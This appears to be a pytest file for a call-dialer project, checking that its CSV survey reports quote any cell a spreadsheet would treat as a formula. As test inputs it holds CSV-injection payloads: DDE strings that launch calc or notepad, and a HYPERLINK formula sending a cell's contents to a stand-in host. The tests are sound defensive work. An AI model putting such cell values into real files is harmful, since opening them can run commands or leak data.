"""CSV files for people: no cell a spreadsheet would run as a formula (`dialer report --csv`)."""

from __future__ import annotations

import asyncio
import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from dialer.cli.main import main
from dialer.ivr.interpreter import Answer, AnswerStatus
from dialer.leads.csv_import import LeadRow
from dialer.spreadsheet_cells import spreadsheet_cell
from dialer.store.store import Store
from dialer.store.survey_store import SurveyStore

DDE = "=cmd|' /C calc'!A0"
NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (DDE, "'" + DDE),
        ("+HYPERLINK(\"http://x.example/?\"&A1)", "'+HYPERLINK(\"http://x.example/?\"&A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+15551234567", "+15551234567"),  # a plain number runs nothing: E.164 stays as it is
        ("-3.5", "-3.5"),
        ("yes", "yes"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_get_a_quote(cell: object, written: object) -> None:
    assert spreadsheet_cell(cell) == written


async def _survey_with_hostile_answers(db: Path) -> None:
    store = await Store.open(f"sqlite+aiosqlite:///{db}")
    try:
        campaign = await store.sync_campaign("poll", "survey")
        await store.import_leads(campaign, [LeadRow(line=2, phone="+15550100", name=DDE)])
        [lease] = await store.lease_due_leads(campaign, 1, NOW)
        surveys = SurveyStore(store)
        await surveys.start_survey(lease.attempt_id, campaign, "satisfaction", NOW)
        await surveys.add_answer(lease.attempt_id, campaign, 1, Answer(DDE, DDE, AnswerStatus.answered, 1, "1", 0.0), NOW)
        await surveys.add_answer(
            lease.attempt_id, campaign, 2, Answer("@note", "+cmd|' /C notepad'!A0", AnswerStatus.answered, 1, "2", 0.0), NOW
        )
        await surveys.end_survey(lease.attempt_id, "completed", NOW)
    finally:
        await store.close()


def test_report_csv_escapes_formula_cells(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "campaigns").mkdir()
    config = tmp_path / "dialer.yaml"
    config.write_text(
        yaml.safe_dump(
            {
                "ami": [{"username": "dialer", "secret": "x"}],
                "database": {"url": "sqlite+aiosqlite:///dialer.db"},
                "campaign_dir": "campaigns",
            }
        )
    )
    asyncio.run(_survey_with_hostile_answers(tmp_path / "dialer.db"))
    out = tmp_path / "answers.csv"
    assert main(["report", "poll", "--csv", str(out), "--config", str(config)]) == 0, capsys.readouterr().err
    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines()))
    assert [(r["question"], r["value"]) for r in rows] == [("'" + DDE, "'" + DDE), ("'@note", "'+cmd|' /C notepad'!A0")]
    assert rows[0]["number"] == "+15550100"
    # No cell of the file, header included, starts a formula.
    for row in csv.reader(text.splitlines()):
        for cell in row:
            assert not cell.startswith(("=", "+cmd", "-", "@", "\t", "\r")), cell
